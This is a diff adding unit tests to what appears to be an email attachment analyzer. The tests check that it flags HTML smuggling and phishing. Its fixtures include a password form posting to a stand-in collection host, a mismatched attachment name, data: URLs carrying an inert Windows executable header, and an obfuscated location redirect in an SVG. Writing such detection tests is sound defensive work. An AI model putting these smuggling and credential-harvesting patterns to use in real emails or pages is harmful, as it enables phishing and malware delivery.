@@ -445,4 +445,68 @@ class HtmlAttachmentAnalyzerTest {
         assertThat(analyzer.codes()).containsExactly("HTML_ATTACHMENT", "HTML_ATTACHMENT_FORM", "HTML_ATTACHMENT_SCRIPT");
         analyzer.codes().forEach(c -> assertThat(catalogue.entry(c)).as(c).isPresent());
     }
+
+    /** The smallest head FileSignatures takes for a PE: MZ, the PE header's offset at 0x3C, the signature there. */
+    private static String peBase64() {
+        byte[] pe = new byte[512];
+        pe[0] = 'M';
+        pe[1] = 'Z';
+        pe[0x3C] = (byte) 0x80;
+        pe[0x80] = 'P';
+        pe[0x81] = 'E';
+        return Base64.getEncoder().encodeToString(pe);
+    }
+
+    @Test
+    void aLoginPageWhoseNameEndsInADotIsAPageAsWindowsOpensIt() throws Exception {
+        assertThat(analyze("login.htm.", "application/octet-stream", "<form action='https://collect.example.net/p'>"
+                + "<input type=password name=p></form>")).extracting(Finding::code)
+                .containsExactly("HTML_ATTACHMENT", "HTML_ATTACHMENT_FORM");
+    }
+
+    @Test
+    void aPageWhoseOtherNameIsHtmlIsAPage() throws Exception {
+        String mail = "From: a@partner.example\r\nSubject: files\r\nMIME-Version: 1.0\r\n"
+                + "Content-Type: multipart/mixed; boundary=\"b\"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nsee\r\n"
+                + "--b\r\nContent-Type: application/octet-stream; name=\"login.html\"\r\n"
+                + "Content-Disposition: attachment; filename=\"login.txt\"\r\n\r\n<input type=password>\r\n--b--\r\n";
+        try (var parsed = new MessageParser().parse(new ByteArrayInputStream(mail.getBytes(StandardCharsets.UTF_8)))) {
+            assertThat(analyzer.analyze(new AnalysisInput(ENVELOPE, parsed))).extracting(Finding::code)
+                    .containsExactly("HTML_ATTACHMENT", "HTML_ATTACHMENT_FORM");
+        }
+    }
+
+    @Test
+    void aDownloadLinkToADataUrlCarryingAProgramIsSmuggling() throws Exception {
+        assertThat(analyze("invoice.html", "text/html", "<a download='invoice.exe' href='data:image/png;base64,"
+                + peBase64() + "'>Download</a>")).containsExactly(
+                Finding.of("HTML_ATTACHMENT", "invoice.html"),
+                Finding.of("HTML_ATTACHMENT_SCRIPT", "invoice.html: download of a data: URL, data: URL payload: "
+                        + "Windows executable (PE)"));
+    }
+
+    @Test
+    void aProgramInADataUrlInsideScriptIsSmugglingWhateverTypeItClaims() throws Exception {
+        assertThat(analyze("invoice.html", "text/html", "<script>var u = \"data:text/plain;base64," + peBase64()
+                + "\";</script>")).contains(Finding.of("HTML_ATTACHMENT_SCRIPT",
+                "invoice.html: data: URL payload: Windows executable (PE)"));
+    }
+
+    @Test
+    void aLongDataUrlOfAFileTypeIsSmugglingAndALongPictureIsNot() throws Exception {
+        String payload = Base64.getEncoder().encodeToString(new byte[3000]);
+        assertThat(analyze("a.html", "text/html", "<a href='data:application/octet-stream;base64," + payload + "'>x</a>"))
+                .contains(Finding.of("HTML_ATTACHMENT_SCRIPT", "a.html: data: URL of application/octet-stream"));
+        assertThat(analyze("a.html", "text/html", "<img src='data:image/png;base64," + payload + "'>"))
+                .containsExactly(Finding.of("HTML_ATTACHMENT", "a.html"));
+    }
+
+    @Test
+    void scriptThatBuildsABlobOrNamesLocationByAComputedStringIsActive() throws Exception {
+        assertThat(analyze("scan.svg", "image/svg+xml", "<svg xmlns='http://www.w3.org/2000/svg'><script>"
+                + "window[\"loc\"+\"ation\"]=\"https://collect.example.net/\";</script></svg>")).contains(
+                Finding.of("HTML_ATTACHMENT_SCRIPT", "scan.svg: window["));
+        assertThat(analyze("a.html", "text/html", "<script>var b = new Blob([new Uint8Array(d)]);</script>")).contains(
+                Finding.of("HTML_ATTACHMENT_SCRIPT", "a.html: blob, uint8array"));
+    }
 }
